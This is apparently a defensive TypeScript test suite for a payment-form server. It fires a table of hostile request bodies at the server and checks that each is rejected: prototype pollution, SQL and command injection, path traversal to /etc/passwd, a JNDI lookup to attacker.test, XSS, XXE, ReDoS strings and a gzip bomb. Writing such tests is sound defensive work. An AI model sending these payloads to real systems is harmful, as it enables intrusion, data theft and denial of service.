// What an attacker can put into a body, sent by fetch and over a socket.
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { describe, test } from 'node:test';
import {
  ASKED,
  byFetch,
  bytesOf,
  checkAnswer,
  JSON_TYPE,
  openTarget,
  readAnswers,
  startTarget,
  testAftermath,
  type Attack,
} from './target.ts';

const order = (value: unknown): Attack => ({ body: JSON.stringify({ order: value, locale: 'en' }) });
const text = (json: string): Attack => ({ body: json });
const evidence = (json: string): Attack => ({
  path: '/pay/confirm',
  body: `{"provider":"truust","order":"o1","evidence":${json}}`,
});
const hex = (bytes: string): Attack => ({ body: Buffer.from(bytes.replaceAll(' ', ''), 'hex') });
const within = (body: string): string => body.padEnd(16_000, ' ');

/** What is sent, and the status of the answer. */
const ATTACKS: Readonly<Record<string, readonly [Attack, number]>> = {
  'the prototype by name': [text('{"order":"o1","locale":"en","__proto__":{"polluted":1}}'), 400],
  'the prototype by constructor': [
    text('{"order":"o1","locale":"en","constructor":{"prototype":{"polluted":1}}}'),
    400,
  ],
  'the prototype in evidence, which is no evidence': [evidence('{"__proto__":{"polluted":"1"}}'), 200],
  'the prototype in evidence, as a text': [evidence('{"__proto__":"ATTACK"}'), 200],
  'a provider that every object has': [text('{"order":"o1","locale":"en","provider":"__proto__"}'), 404],
  'another one': [text('{"order":"o1","locale":"en","provider":"constructor"}'), 404],
  'an order that every object has': [order('__proto__'), 404],
  'a condition for an order': [order({ $ne: null }), 400],
  'a list for an order': [order(['o1']), 400],
  'a number for an order': [order(1), 400],
  'yes for an order': [order(true), 400],
  'nothing for an order': [order(null), 400],
  'an empty order': [order(''), 400],
  'SQL for an order': [order("o1' or '1'='1"), 404],
  'more SQL': [order('o1; drop table pay_form_entry; --'), 404],
  'a file for an order': [order('../../etc/passwd'), 404],
  'a command for an order': [order('`id`;$(id)|id'), 404],
  'a template for an order': [order('{{7*7}}${7*7}<%= 7*7 %>'), 404],
  'a look-up of a logger': [order('${jndi:ldap://attacker.test/ATTACK}'), 404],
  'a header in an order': [order('o1\r\nSet-Cookie: ATTACK=1'), 404],
  'a line of a log in an order': [order('o1\n2026-01-01 pay-form ATTACK paid'), 404],
  'a script in an order': [order('<script>ATTACK</script>'), 404],
  'the escape of a terminal in an order': [order('o1\u001b[2J\u009b31m'), 404],
  'a right-to-left mark in an order': [order('o1\u202e\u2066'), 404],
  'a NUL in an order': [order('o1\u0000'), 404],
  'a NUL that is escaped': [text('{"order":"o1\\u0000","locale":"en"}'), 404],
  'half a character in an order': [text('{"order":"o1\\ud800","locale":"en"}'), 404],
  'the other half': [text('{"order":"\\udc00o1","locale":"en"}'), 404],
  'an order in full width': [order('ｏ１'), 404],
  'an order with a blank behind': [order('o1 '), 404],
  'an order in capitals': [order('O1'), 404],
  'a very long order': [order('o'.repeat(1_025)), 400],
  'two orders: the last one counts, and it alone is looked up': [
    text('{"order":"o9","order":"o1","locale":"en"}'),
    200,
  ],
  'a locale that is a script': [text('{"order":"o1","locale":"<script>ATTACK"}'), 400],
  'a locale that takes long to match': [text(`{"order":"o1","locale":"${'a-'.repeat(4_000)}!"}`), 400],
  'an unknown key that takes long to redact': [
    text(`{"order":"o1","locale":"en","${'4-'.repeat(7_000)}ATTACK":1}`),
    400,
  ],
  'an unknown key that a terminal obeys': [
    text('{"order":"o1","locale":"en","\u001b[31m\u202eATTACK":1}'),
    400,
  ],
  'many unknown keys': [
    text(
      `{"order":"o1","locale":"en",${Array.from({ length: 900 }, (_none, key) => `"ATTACK${key}":1`).join()}}`,
    ),
    400,
  ],
  'lists in lists': [text('['.repeat(16_000)), 400],
  'objects in objects': [text('{"a":'.repeat(2_500) + '1' + '}'.repeat(2_500)), 400],
  'objects in evidence': [evidence('{"a":{"b":{"c":{}}}}'), 400],
  'a number beyond all numbers': [
    text('{"provider":"truust","order":"o1","evidence":{},"elapsed":1e999}'),
    400,
  ],
  'a long key in evidence': [evidence(`{"${'k'.repeat(65)}":"v"}`), 400],
  'a comment': [text('{"order":"o1",/* ATTACK */"locale":"en"}'), 400],
  'a comma too many': [text('{"order":"o1","locale":"en",}'), 400],
  'single quotes': [text("{'order':'o1','locale':'en'}"), 400],
  'not a number': [text('NaN'), 400],
  'two values': [text(`${ASKED}${ASKED}`), 400],
  'something behind': [text(`${ASKED}\u0000ATTACK`), 400],
  nothing: [text(''), 400],
  'a text': [text('"o1"'), 400],
  'UTF-16': [{ body: Buffer.from(ASKED, 'utf16le') }, 400],
  'UTF-7': [text('+AHsAIg-'), 400],
  'an overlong slash': [hex('7b226f72646572223a22c0af222c226c6f63616c65223a22656e227d'), 400],
  'half a character of UTF-8': [hex('7b226f72646572223a22c3222c226c6f63616c65223a22656e227d'), 400],
  'a surrogate in UTF-8': [hex('7b226f72646572223a22eda080222c226c6f63616c65223a22656e227d'), 400],
  'compressed bytes': [{ body: gzipSync(ASKED), headers: [JSON_TYPE, ['Content-Encoding', 'gzip']] }, 400],
  'compressed bytes that are a bomb': [
    { body: gzipSync('x'.repeat(9_000_000)), headers: [JSON_TYPE, ['Content-Encoding', 'gzip']] },
    400,
  ],
  'as many bytes as there may be': [text(within(ASKED)), 200],
  'one byte more': [text(ASKED.padEnd(16 * 1024 + 1, ' ')), 413],
  'a megabyte': [text('x'.repeat(1_000_000)), 413],
  'a form in JSON’s place': [{ body: 'order=o1&locale=en' }, 400],
  'XML with an entity': [text('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'), 400],
  'a notification that nobody signed': [
    { path: '/pay/notifications/trustly', body: '{"dedupeKey":"n1"}' },
    403,
  ],
  'a notification of 65 KiB': [{ path: '/pay/notifications/trustly', body: 'x'.repeat(66_000) }, 413],
  'a notification of digits': [{ path: '/pay/notifications/trustly', body: '4111'.repeat(4_000) }, 403],
};

describe('bodies of an attacker', () => {
  const target = openTarget();
  const send = startTarget(target);

  for (const [what, [attack, status]] of Object.entries(ATTACKS)) {
    test(what, async () => {
      const before = target.asked.length;
      const fetched = await byFetch(target, attack);
      const received = readAnswers(await send(bytesOf(attack)));
      for (const answer of [fetched, received]) {
        assert.equal(answer.status, status, answer.text);
        checkAnswer(answer);
      }
      assert.equal(received.count, 1);
      // Of two orders in one body it is the last, as everybody reads JSON.
      assert.ok(target.asked.slice(before).every((each) => each !== 'o9'));
    });
  }

  testAftermath(target, send);
});
